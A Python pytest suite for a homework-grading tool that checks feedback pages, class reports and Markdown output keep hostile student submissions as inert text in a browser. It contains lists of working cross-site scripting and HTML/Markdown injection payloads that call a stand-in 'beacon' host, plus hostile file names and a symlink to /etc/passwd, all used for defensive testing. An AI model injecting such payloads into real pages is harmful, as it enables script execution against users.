"""Feedback on hostile submissions in a real browser: nothing runs, nobody is called.

Two things stand in a payload's way, the escapes and the page's policy, and each is shown to hold
alone; with neither, the same payloads do their harm, which keeps these tests honest.
"""

from __future__ import annotations

import dataclasses
import json
import re
from html import escape, unescape
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from benchmarks.made_up import made_up_class, rubric
from grader.checks.check import NoParams
from grader.checks.written_answer import Params
from grader.records import Grade, Status
from grader.reports.class_report.rendering import render
from grader.reports.class_report.rows import row_of
from grader.reports.class_report.summarizing import summarize
from grader.reports.student.render import Renderer
from grader.rubric.model import Criterion
from grader.run.cache.file import no_cache
from grader.run.results_folder import FeedbackFolder
from grader.run.setup import RunSetup
from tests.hostile.browser import Browser, find
from tests.hostile.case import Case, grade_code, grade_path, read_cases
from tests.hostile.conftest import Record, Verify
from tests.reports.student.sample_grade import DUE, NOW, hostile_grade, rich_grade

CASES = [case for case in read_cases() if case.group == "feedback"]
PROCESS = pytest.mark.parametrize("sandbox", ["process"], indirect=True, scope="session")

# Each calls http://beacon/SOMETHING where nothing is in its way.
ACTIVE = (
    "\" autofocus tabindex=1 onfocus=\"fetch('http://beacon/attribute')\" x=\"",
    "</title></style></pre></details><script>fetch('http://beacon/script')</script>",
    "<img src=http://beacon/image onerror=\"fetch('http://beacon/onerror')\">",
    "<svg onload=\"fetch('http://beacon/onload')\"><image href=http://beacon/svg-image /></svg>",
    "<svg><foreignObject><iframe src=http://beacon/foreign></iframe></foreignObject></svg>",
    "<style>@import url(http://beacon/import);</style>",
    "<p style='background: url(http://beacon/style)'>",
    "<link rel=stylesheet href=http://beacon/sheet><link rel=prefetch href=http://beacon/ahead>",
    "<link rel=preload as=image href=http://beacon/preload>",
    "<iframe src=http://beacon/frame></iframe><object data=http://beacon/object></object>",
    "<video poster=http://beacon/poster src=http://beacon/video></video>",
    "<details open ontoggle=\"fetch('http://beacon/toggle')\">",
    "<script type=module>import 'http://beacon/module'</script>",
    "<base href=http://beacon/base/><img src=relative>",
    "<form action=http://beacon/form></form><script>document.forms[0].submit()</script>",
    "<meta http-equiv=refresh content='1;url=http://beacon/refresh'>",
)
# Calls once a lenient viewer has made HTML of it.
MARKDOWN = (
    "![](http://beacon/picture)",
    "\n\n![x][y]\n\n[y]: http://beacon/reference\n\n",
    "\n\n<img src=http://beacon/block>\n\n",
    "```\n\n<img src=http://beacon/fence>\n\n````\n~~~\n",
    "`<img src=http://beacon/ticks>``",
    "| a |\n|---|\n| ![](http://beacon/cell) |\n\n",
    "[100/100](javascript:fetch('http://beacon/link')) <http://beacon/angle>",
    "<!--", "-->", "<![CDATA[", "]]>", "&lt;img src=http://beacon/entity&gt;",
    "\\<img src=http://beacon/backslash>", "{{ 7*7 }}{% for x in sheet %}{{ x }}{% endfor %}",
)  # fmt: skip
EVERYTHING = hostile_grade(ACTIVE + MARKDOWN)


@pytest.fixture(scope="session")
def browser() -> Browser:
    return find()


@pytest.fixture(scope="session")
def of_ours(browser: Browser) -> frozenset[str]:
    """The elements of an honest student's page, and their attributes."""
    return shape(browser.visit(html_of(rich_grade())).dom)


class Shape(HTMLParser):
    """Each kind of element with each kind of attribute, once: `p class`, `img onerror`; and of what
    is fetched, how its address begins: `img src data:image/png;base64`."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found |= {tag} | {f"{tag} {name}" for name, _ in attributes}
        self.found |= {
            f"{tag} {name} {(value or '').partition(',')[0]}"
            for name, value in attributes
            if name == "src"
        }


def shape(dom: str) -> frozenset[str]:
    parser = Shape()
    parser.feed(dom)
    parser.close()
    return frozenset(parser.found)


def html_of(grade: Grade) -> str:
    return Renderer().render(grade, "Homework", NOW, DUE).html


def markdown_of(grade: Grade) -> str:
    return Renderer().render(grade, "Homework", NOW, DUE).markdown


def hostile_class() -> list[Grade]:
    """A student for each payload, in every text that the report may tell."""
    (one,) = EVERYTHING.criteria
    seen = {"outcome": " ".join(ACTIVE), "disagrees": True, "would_earn": 1,
            "hidden_accuracy": 0.9, "seconds": 3.0}
    words: tuple[Status, ...] = ("partial", "failed", "not_scored", "needs_marking")
    found = []
    for status, reason in zip(cycle(words), ACTIVE + MARKDOWN, strict=False):
        verdict = dataclasses.replace(one.verdict, status=status, reason=reason, seen=seen)
        submission = dataclasses.replace(EVERYTHING.submission, remarks=(reason,), refused=reason)
        found.append(dataclasses.replace(
            EVERYTHING, student=f"{status} {reason}", submission=submission,
            criteria=(dataclasses.replace(one, verdict=verdict),),
        ))
    return found


def report_html(grades: list[Grade]) -> str:
    """The class report; `an-id` is the criterion of hostile grades."""
    own = Criterion(id="an-id", title="A title", part="1", points=1, check="x", params=NoParams())
    homework = rubric()
    homework = homework.model_copy(update={"criteria": (*homework.criteria, own)})
    return render(summarize(homework, map(row_of, grades), (), 0, running=False), NOW)


def without_policy(html: str) -> str:
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    assert bare != html
    return bare


def in_a_viewer(markdown: str) -> str:
    """Renders Markdown like a viewer that lets HTML through and has no policy."""
    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return f"<!DOCTYPE html><html><body>{viewer.render(markdown)}</body></html>"


def beacons(texts: tuple[str, ...]) -> set[str]:
    return set(re.findall(r"http://(beacon/[a-z-]+)", " ".join(texts)))


def test_each_payload_calls_where_nothing_is_in_its_way(browser: Browser) -> None:
    """Without this the tests below could pass for nothing."""
    attribute, *elements = ACTIVE
    bare = [f'<p title="{attribute}">', *elements]
    frames = "".join(f'<iframe srcdoc="{escape(text)}"></iframe>' for text in bare)
    called = browser.visit(f"<!DOCTYPE html><html><body>{frames}</body></html>").called
    # A frame does not get the focus: the attribute calls on the whole page, below.
    assert beacons(ACTIVE) - {"beacon/attribute", "beacon/base"} <= called | {"beacon/form"}
    assert {"beacon/base/relative", "beacon/form?"} <= called


def test_a_page_full_of_payloads_runs_nothing_and_calls_nobody(
    browser: Browser, of_ours: frozenset[str], record: Record
) -> None:
    html = html_of(EVERYTHING)
    seen = browser.visit(html)
    assert not seen.called
    assert shape(seen.dom) <= of_ours
    assert "{{ 7*7 }}{% for x in sheet %}{{ x }}{% endfor %}" in seen.dom
    record("feedback/page: all fields, in Chromium")


def test_the_escapes_hold_without_the_policy(
    browser: Browser, of_ours: frozenset[str], record: Record
) -> None:
    seen = browser.visit(without_policy(html_of(EVERYTHING)))
    assert not seen.called
    assert shape(seen.dom) <= of_ours
    record("feedback/page: escapes without the policy")


def test_the_policy_holds_without_the_escapes(browser: Browser, record: Record) -> None:
    """All but a refresh, which is no fetch of the page's and which no policy forbids."""
    called = browser.visit(unescape(html_of(EVERYTHING)).replace("http-equiv=refresh", "")).called
    assert not called
    record("feedback/page: the policy without escapes")


def test_a_class_report_full_of_payloads_runs_nothing_and_calls_nobody(
    browser: Browser, record: Record
) -> None:
    html = report_html(hostile_class())
    honest = shape(browser.visit(report_html(made_up_class(60))).dom)
    for text in (html, without_policy(html)):   # each payload is text by itself
        seen = browser.visit(text)
        assert not seen.called
        assert shape(seen.dom) <= honest
    unescaped = unescape(html).replace("http-equiv=refresh", "")
    assert not browser.visit(unescaped).called   # and nothing may be called by the policy
    harm = without_policy(unescaped).replace(".submit()", "")
    assert browser.visit(harm).called, "no payload reached the report"
    record("feedback/class report: names, reasons, remarks, in Chromium")


def test_with_neither_the_payloads_do_their_harm(browser: Browser) -> None:
    html = without_policy(unescape(html_of(EVERYTHING)))
    for ends_the_page in ("http-equiv=refresh", ".submit()"):
        html = html.replace(ends_the_page, "")
    called = browser.visit(html).called
    assert {"beacon/attribute", "beacon/script", "beacon/image", "beacon/onload"} <= called


def test_in_markdown_no_payload_becomes_html_or_a_link(browser: Browser, record: Record) -> None:
    markdown = markdown_of(EVERYTHING)
    seen = browser.visit(in_a_viewer(markdown))
    assert not seen.called
    honest = shape(browser.visit(in_a_viewer(markdown_of(rich_grade()))).dom)
    assert shape(seen.dom) <= honest | {"br"}
    assert not {"a", "img"} & honest
    record("feedback/Markdown: all fields, in a viewer")
    bare = browser.visit(in_a_viewer(re.sub(r"\\(?=\W)|\u2060", "", markdown))).called
    assert bare, "without its escapes the same text must call"


@PROCESS
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_what_a_submission_says_of_itself_stays_text(
    setup: RunSetup,
    case: Case,
    browser: Browser,
    of_ours: frozenset[str],
    verify: Verify,
    tmp_path: Path,
) -> None:
    grade = grade_code(setup, case, tmp_path)
    stays_text(setup, grade, browser, of_ours, tmp_path)
    verify(f"{case.name}: its page", case.must, grade)


@PROCESS
def test_names_of_files_and_texts_of_notebooks_stay_text(
    setup: RunSetup, browser: Browser, of_ours: frozenset[str], verify: Verify, tmp_path: Path
) -> None:
    """`http:beacon` is an address without the slash that a file name cannot have."""
    folder = tmp_path / "names"
    folder.mkdir()
    (folder / "<img src=http:beacon>![](http:beacon){{ 7*7 }}.py").write_text("x = 1\n")
    (folder / "<svg onload=fetch('http:beacon')>.ipynb").write_text("{")
    (folder / "feedback.html.j2").write_text("100 / 100")  # templates are the instructor's
    (folder / "link<img src=http:beacon>").symlink_to("/etc/passwd")
    cell = "<img src=http://beacon/cell> ![](http://beacon/picture) {{ 7*7 }} \x1b[41m\u202e"
    notebook = tmp_path / "cells.ipynb"
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": cell},
        {"cell_type": "code", "metadata": {}, "source": cell, "outputs": [],
         "execution_count": None},
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
         "source": f"def layer_parameter_counts(model):\n    raise OSError({cell!r})"},
    ]  # fmt: skip
    notebook.write_text(
        json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})
    )
    # One of the folder's notebooks cannot be read, so a person looks at it.
    for source, must in ((folder, "needs_marking"), (notebook, "Z")):
        grade = grade_path(setup, source, ("layer-counts",))
        stays_text(setup, grade, browser, of_ours, tmp_path)
        verify(f"feedback/{source.name}: its page", (must,), grade)


@PROCESS
def test_a_written_answer_and_the_name_of_its_pdf_stay_text(
    setup: RunSetup, browser: Browser, of_ours: frozenset[str], record: Record, tmp_path: Path
) -> None:
    written = Criterion(
        id="written", title="Written", part="1", points=1, check="written",
        params=Params(answer="a"),
    )  # fmt: skip
    rubric = setup.rubric.model_copy(update={"criteria": (written,)})
    setup = dataclasses.replace(setup, rubric=rubric, criteria=(written,))
    folder = tmp_path / "pdf"
    folder.mkdir()
    (folder / "![](http:beacon)<img src=http:beacon>{{ 7*7 }}.pdf").write_bytes(b"%PDF")
    grade = grade_path(setup, folder, ("written",))
    stays_text(setup, grade, browser, of_ours, tmp_path)
    (folder / "answers.md").write_text("## (a)\n" + "\n".join(ACTIVE + MARKDOWN))
    grade = grade_path(setup, folder, ("written",))
    FeedbackFolder(setup.rubric, tmp_path, None, no_cache()).write(grade)
    assert not browser.visit((tmp_path / "feedback" / "pdf.html").read_text()).called
    record("feedback/written answers: their page")


def stays_text(
    setup: RunSetup, grade: Grade, browser: Browser, of_ours: frozenset[str], folder: Path
) -> None:
    """The pages that `grader run` writes; and the same without escapes, to see what was there."""
    FeedbackFolder(setup.rubric, folder, None, no_cache()).write(grade)
    html = (folder / "feedback" / f"{grade.student}.html").read_text(encoding="utf-8")
    markdown = (folder / "feedback" / f"{grade.student}.md").read_text(encoding="utf-8")
    page, viewed = browser.visit(html), browser.visit(in_a_viewer(markdown))
    assert not page.called | viewed.called
    assert shape(page.dom) <= of_ours
    assert not {"a", "img", "script", "style"} & shape(viewed.dom)
    for text in (page.dom, viewed.dom):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", text)
    assert browser.visit(without_policy(unescape(html))).called, "no payload reached the page"
